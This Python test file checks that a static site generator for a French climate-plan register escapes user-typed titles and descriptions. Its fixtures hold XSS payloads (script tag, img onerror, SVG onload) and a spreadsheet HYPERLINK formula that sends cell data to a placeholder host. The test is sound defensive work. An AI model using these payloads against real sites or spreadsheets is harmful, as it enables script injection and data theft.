"""Titles and descriptions come from anyone who can open a merge request: whatever
they type is shown as text, never run or turned into elements."""

from __future__ import annotations

import json
from pathlib import Path

from tests.conftest import WriteRegister
from tests.site.conftest import build, pages, read_html

SCRIPT = "<script>alert('titre')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquez")'
SVG = "</text></svg><svg onload=alert(2)>"


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


HOSTILE = {
    "territoires/epci-x.yaml": f"nom: {q('Territoire ' + SVG)}\nnature: CC\n",
    "acteurs/svc-x.yaml": f"nom: {q('Service ' + IMAGE)}\ntype: service\ndomaine: mobilite\n",
    "acteurs/p-x.yaml": f"nom: {q('Paul ' + SCRIPT)}\ntype: personne\nservice: svc-x\n",
    "plans/pcaet-x.yaml": (
        f"nom: {q('Plan ' + FORMULA)}\ntype: PCAET\nporteur: epci-x\n"
        f"axes:\n  - {{code: '1', titre: {q('Axe ' + IMAGE)}}}\n"
    ),
    "actions/act-1.yaml": (
        f"titre: {q('Titre ' + SCRIPT)}\n"
        f"description: {q(IMAGE)}\n"
        f"objectifs: {q(FORMULA)}\n"
        "plans: {pcaet-x: '1'}\n"
        "echelon: epci-x\n"
        "pilote: svc-x\n"
        "statut: En cours\n"
        "secteurs: [Résidentiel]\n"
        "indicateurs:\n"
        f"  - nom: {q('Indicateur ' + SVG)}\n"
        f"    unite: {q(SCRIPT)}\n"
        "    valeur_initiale: 0\n    annee_initiale: 2024\n"
        "    cible: 10\n    annee_cible: 2026\n    mesures: {2025: 4}\n"
        f"suivi:\n  - {{date: 2025-01-01, texte: {q(FORMULA)}, auteur: p-x}}\n"
    ),
    # A file name outside the naming rule (N002) still loads: its page needs a safe name.
    "actions/Act 2 <é>.yaml": "titre: Nom de fichier hors convention\npilote: svc-x\n",
}


def test_user_text_is_shown_as_typed_and_injects_nothing(
    write_register: WriteRegister, tmp_path: Path
) -> None:
    root = write_register(HOSTILE)
    site = build(root, tmp_path / "site")
    seen = ""
    for page in pages(site):
        html = read_html(page)
        tags = {e.tag for e in html.elements}
        assert "img" not in tags, page.name
        for element in html.elements:
            assert not any(a.startswith("on") for a in element.attrs), (page.name, element)
        scripts = html.find("script")
        assert all(s.attrs.get("src", "").endswith("static/filtre.js") for s in scripts)
        assert len(html.find("svg")) == page.read_text(encoding="utf-8").count("</svg>")
        seen += html.text + " "
    for typed in (SCRIPT, IMAGE, FORMULA, SVG):
        assert typed in seen, typed
    assert 'href="actions/act-2-e.html"' in (site / "actions.html").read_text(encoding="utf-8")
    assert "Nom de fichier hors convention" in read_html(site / "actions" / "act-2-e.html").text
    action = read_html(site / "actions" / "act-1.html").text
    assert f"Titre {SCRIPT}" in action and IMAGE in action and FORMULA in action
    assert f"Paul {SCRIPT}" in action
